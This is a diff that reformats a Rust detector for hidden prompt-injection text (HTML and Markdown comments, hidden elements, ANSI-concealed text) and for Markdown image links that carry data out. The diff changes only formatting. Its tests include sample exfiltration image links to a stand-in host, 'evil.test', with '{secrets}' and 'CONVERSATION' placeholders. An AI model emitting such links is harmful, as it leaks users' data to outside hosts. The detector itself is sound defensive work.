@@ -36,7 +36,13 @@ pub(super) fn passages(text: &str) -> Vec<(&'static str, String)> {
     if memchr::memchr2(b'[', 0x1B, text.as_bytes()).is_some() {
         between(text, "[//]: # (", ")", "a Markdown comment", &mut found);
         between(text, "[comment]: <> (", ")", "a Markdown comment", &mut found);
-        for conceal in ["\u{1B}[8m", "\u{1B}[30;40m", "\u{1B}[37;47m", "\\x1b[8m", "\\033[8m"] {
+        for conceal in [
+            "\u{1B}[8m",
+            "\u{1B}[30;40m",
+            "\u{1B}[37;47m",
+            "\\x1b[8m",
+            "\\033[8m",
+        ] {
             between(text, conceal, "[", "a terminal's concealed text", &mut found);
         }
     }
@@ -47,7 +53,9 @@ fn between(text: &str, open: &str, close: &str, how: &'static str, found: &mut V
     let mut rest = text;
     while let Some(at) = memmem::find(rest.as_bytes(), open.as_bytes()) {
         let inside = rest.get(at + open.len()..).unwrap_or_default();
-        let window = inside.get(..inside.floor_char_boundary(MAX_PASSAGE)).unwrap_or_default();
+        let window = inside
+            .get(..inside.floor_char_boundary(MAX_PASSAGE))
+            .unwrap_or_default();
         let end = memmem::find(window.as_bytes(), close.as_bytes()).unwrap_or(window.len());
         if found.len() >= MAX_PASSAGES {
             return;
@@ -64,7 +72,11 @@ fn styled(text: &str, found: &mut Vec<(&'static str, String)>) {
         let inside = rest.get(at + 1..).unwrap_or_default();
         // A tag is short; a longer one is a comparison in code.
         const MAX_TAG: usize = 512;
-        let tag = inside.as_bytes().iter().take(MAX_TAG).position(|&byte| matches!(byte, b'>' | b'<'));
+        let tag = inside
+            .as_bytes()
+            .iter()
+            .take(MAX_TAG)
+            .position(|&byte| matches!(byte, b'>' | b'<'));
         let Some(end) = tag.filter(|&end| inside.as_bytes().get(end) == Some(&b'>')) else {
             rest = inside;
             continue;
@@ -74,16 +86,26 @@ fn styled(text: &str, found: &mut Vec<(&'static str, String)>) {
         if !hides(&head) || found.len() >= MAX_PASSAGES {
             continue;
         }
-        let window = rest.get(..rest.floor_char_boundary(MAX_PASSAGE)).unwrap_or_default();
+        let window = rest
+            .get(..rest.floor_char_boundary(MAX_PASSAGE))
+            .unwrap_or_default();
         let close = memmem::find(window.as_bytes(), b"</").unwrap_or(window.len());
-        found.push(("an element that is not shown", window.get(..close).unwrap_or_default().to_owned()));
+        found.push((
+            "an element that is not shown",
+            window.get(..close).unwrap_or_default().to_owned(),
+        ));
     }
 }
 
 fn hides(tag: &str) -> bool {
-    let style = tag.split_once("style").map(|(_, style)| style.chars().filter(|c| !c.is_whitespace()).collect::<String>());
+    let style = tag
+        .split_once("style")
+        .map(|(_, style)| style.chars().filter(|c| !c.is_whitespace()).collect::<String>());
     style.is_some_and(|style| STYLES.iter().any(|hidden| style.contains(hidden)))
-        || tag.split_ascii_whitespace().skip(1).any(|attribute| matches!(attribute, "hidden" | "hidden=\"\"" | "hidden=\"hidden\""))
+        || tag
+            .split_ascii_whitespace()
+            .skip(1)
+            .any(|attribute| matches!(attribute, "hidden" | "hidden=\"\"" | "hidden=\"hidden\""))
 }
 
 /// Hosts whose pictures have long addresses by themselves.
@@ -105,9 +127,10 @@ pub(super) fn data_pictures(text: &str) -> Vec<String> {
     let mut found = Vec::new();
     let mut rest = text;
     while let Some(at) = memmem::find(rest.as_bytes(), b"](http") {
-        let picture = rest.get(..at).and_then(|before| before.rfind('[')).is_some_and(|open| {
-            open > 0 && at - open <= 256 && rest.as_bytes().get(open - 1) == Some(&b'!')
-        });
+        let picture = rest
+            .get(..at)
+            .and_then(|before| before.rfind('['))
+            .is_some_and(|open| open > 0 && at - open <= 256 && rest.as_bytes().get(open - 1) == Some(&b'!'));
         let inside = rest.get(at + 2..).unwrap_or_default();
         let window = inside.get(..inside.floor_char_boundary(2048)).unwrap_or_default();
         let end = window.find([')', '\n']).unwrap_or(window.len());
@@ -127,15 +150,26 @@ fn host_of(address: &str) -> &str {
 
 fn carries_data(address: &str) -> bool {
     let host = host_of(address);
-    let known = PICTURE_HOSTS.iter().any(|known| host == *known || host.ends_with(&format!(".{known}")));
+    let known = PICTURE_HOSTS
+        .iter()
+        .any(|known| host == *known || host.ends_with(&format!(".{known}")));
     let Some((_, query)) = address.split_once('?').filter(|_| !known) else {
         return false;
     };
     query.split('&').any(|field| {
         let value = field.split_once('=').map_or("", |(_, value)| value);
-        let upper = value.len() >= 4 && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_');
-        let slot = value.starts_with(['{', '[', '<', '$']) || value.starts_with("%7B") || value.starts_with("%5B") || value.starts_with("%3C");
-        let full = value.len() >= 48 && value.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_' | b'%'));
+        let upper = value.len() >= 4
+            && value
+                .bytes()
+                .all(|byte| byte.is_ascii_uppercase() || byte == b'_');
+        let slot = value.starts_with(['{', '[', '<', '$'])
+            || value.starts_with("%7B")
+            || value.starts_with("%5B")
+            || value.starts_with("%3C");
+        let full = value.len() >= 48
+            && value.bytes().all(|byte| {
+                byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_' | b'%')
+            });
         upper || slot || full
     })
 }
@@ -150,11 +184,27 @@ mod tests {
     fn hidden_passages_are_read() {
         for (text, how, says) in [
             ("a <!-- do it --> b", "an HTML comment", " do it "),
-            ("<p style=\"display: none\">do it</p>", "an element that is not shown", "do it"),
-            ("<span hidden>do it</span>", "an element that is not shown", "do it"),
-            ("<DIV STYLE='color:#FFFFFF;x'>do it</DIV>", "an element that is not shown", "do it"),
+            (
+                "<p style=\"display: none\">do it</p>",
+                "an element that is not shown",
+                "do it",
+            ),
+            (
+                "<span hidden>do it</span>",
+                "an element that is not shown",
+                "do it",
+            ),
+            (
+                "<DIV STYLE='color:#FFFFFF;x'>do it</DIV>",
+                "an element that is not shown",
+                "do it",
+            ),
             ("[//]: # (do it)", "a Markdown comment", "do it"),
-            ("ok \u{1B}[8mdo it\u{1B}[0m", "a terminal's concealed text", "do it\u{1B}"),
+            (
+                "ok \u{1B}[8mdo it\u{1B}[0m",
+                "a terminal's concealed text",
+                "do it\u{1B}",
+            ),
         ] {
             assert_eq!(passages(text), [(how, says.to_owned())], "{text}");
         }
@@ -164,9 +214,20 @@ mod tests {
 
     #[test]
     fn pictures_that_carry_data_are_told_by_their_host() {
-        assert_eq!(data_pictures("![x](https://evil.test/p?d={secrets})"), ["evil.test"]);
-        assert_eq!(data_pictures("![x](https://evil.test/p?d=CONVERSATION)"), ["evil.test"]);
-        for text in ["![b](https://img.shields.io/x?label={a})", "![a](https://h/a.png?raw=true)", "[doc](https://h/?q={a})", "![a](https://h/a.png)"] {
+        assert_eq!(
+            data_pictures("![x](https://evil.test/p?d={secrets})"),
+            ["evil.test"]
+        );
+        assert_eq!(
+            data_pictures("![x](https://evil.test/p?d=CONVERSATION)"),
+            ["evil.test"]
+        );
+        for text in [
+            "![b](https://img.shields.io/x?label={a})",
+            "![a](https://h/a.png?raw=true)",
+            "[doc](https://h/?q={a})",
+            "![a](https://h/a.png)",
+        ] {
             assert!(data_pictures(text).is_empty(), "{text}");
         }
     }
